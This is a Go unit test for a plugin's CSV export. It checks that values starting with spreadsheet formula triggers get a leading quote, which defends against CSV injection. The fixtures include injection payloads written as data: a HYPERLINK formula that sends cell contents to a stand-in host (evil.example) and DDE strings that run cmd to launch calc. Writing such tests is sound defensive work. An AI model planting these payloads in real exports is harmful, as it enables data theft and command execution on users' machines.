package plugin_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/vigil-mlobs/vigil/pkg/models"
	"github.com/vigil-mlobs/vigil/pkg/plugin"
	"github.com/vigil-mlobs/vigil/pkg/store"
)

// A cell a spreadsheet would run as a formula, and what the CSV export writes
// for it by default (OWASP's CSV injection advice: a single quote in front).
var formulaCells = []struct{ stored, csv string }{
	{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"'quoted already", "''quoted already"}, // one more quote keeps the rule reversible
	{"-", "'-"},
	{"-1.5e", "'-1.5e"},
	{"+0x1p-2", "'+0x1p-2"},
	{"-Inf", "'-Inf"},
	// Plain numbers are left alone: a spreadsheet reads them as numbers.
	{"-1.5", "-1.5"},
	{"+3e-2", "+3e-2"},
	{"-.5", "-.5"},
	{"-7.", "-7."},
	// Text that does not start with a trigger is unchanged.
	{"plain text", "plain text"},
	{"a=b", "a=b"},
	{" =1+1", " =1+1"},
	{"", ""},
}

// newFormulaFixture stores one record per formula cell: the cell is the
// record's text, its id (prefixed to stay unique) and its predicted label.
func newFormulaFixture(t *testing.T) (*target, []store.Record) {
	t.Helper()
	st := newMemStore(t)
	var batch []store.Record
	for i, c := range formulaCells {
		batch = append(batch, store.Record{Model: "notes", ID: fmt.Sprintf("%s#%02d", c.stored, i), Version: "-v1", Environment: "production",
			Time: exportT0.Add(time.Duration(i) * time.Minute), Text: c.stored,
			Prediction: store.Outcome{Label: c.stored, HasLabel: c.stored != ""}})
	}
	if _, err := st.Ingest(context.Background(), batch, store.IngestOptions{Now: exportT0}); err != nil {
		t.Fatal(err)
	}
	return serve(t, plugin.New(st, models.Settings{})), batch
}

func exportIDs(batch []store.Record, extra string) string {
	ids := make([]string, len(batch))
	for i, r := range batch {
		ids[i] = r.ID
	}
	b, _ := json.Marshal(ids)
	return `{"model":"notes","ids":` + string(b) + extra + `}`
}

func TestExportCSVNeutralisesFormulas(t *testing.T) {
	tg, batch := newFormulaFixture(t)
	call := func(body string) resourceResponse {
		return tg.call(resourceCall{Method: http.MethodPost, Path: "export", Role: "Viewer", Body: []byte(body)})
	}

	rows := readCSV(t, call(exportIDs(batch, "")))
	if len(rows)-1 != len(formulaCells) {
		t.Fatalf("%d rows, want %d", len(rows)-1, len(formulaCells))
	}
	for i, row := range rows[1:] { // ordered by time, as stored
		c := formulaCells[i]
		// An id ends with "#NN", so it is never a number: a trigger always quotes it.
		wantID := batch[i].ID
		if strings.ContainsAny(wantID[:1], "=+-@\t\r'") {
			wantID = "'" + wantID
		}
		if row[4] != c.csv || row[5] != c.csv || row[2] != "'-v1" {
			t.Errorf("stored %q: CSV text %q, prediction %q, version %q; want %q and '-v1", c.stored, row[4], row[5], row[2], c.csv)
		}
		if row[0] != wantID {
			t.Errorf("id %q written as %q, want %q", batch[i].ID, row[0], wantID)
		}
		// Reversible: one leading quote removed gives the stored text back.
		for col, stored := range map[int]string{0: batch[i].ID, 4: c.stored} {
			if got := strings.TrimPrefix(row[col], "'"); got != stored {
				t.Errorf("column %d: %q does not give back %q", col, row[col], stored)
			}
		}
	}

	// raw: every cell exactly as stored.
	rows = readCSV(t, call(exportIDs(batch, `,"raw":true`)))
	for i, row := range rows[1:] {
		if row[0] != batch[i].ID || row[4] != formulaCells[i].stored || row[2] != "-v1" {
			t.Errorf("raw row %q, stored id %q text %q", row, batch[i].ID, formulaCells[i].stored)
		}
	}

	// NDJSON is written as stored.
	nd := readNDJSON(t, call(exportIDs(batch, `,"format":"ndjson"`)))
	for i, m := range nd {
		if m["id"] != batch[i].ID || m["text"] != formulaCells[i].stored || m["version"] != "-v1" {
			t.Errorf("ndjson row %v, stored text %q", m, formulaCells[i].stored)
		}
	}

	// raw with NDJSON is refused: it would change nothing, silently.
	r := call(exportIDs(batch, `,"format":"ndjson","raw":true`))
	if r.Status != http.StatusBadRequest || !strings.Contains(string(r.Body), "raw applies to CSV only") {
		t.Errorf("raw with ndjson: %d %s", r.Status, r.Body)
	}
}
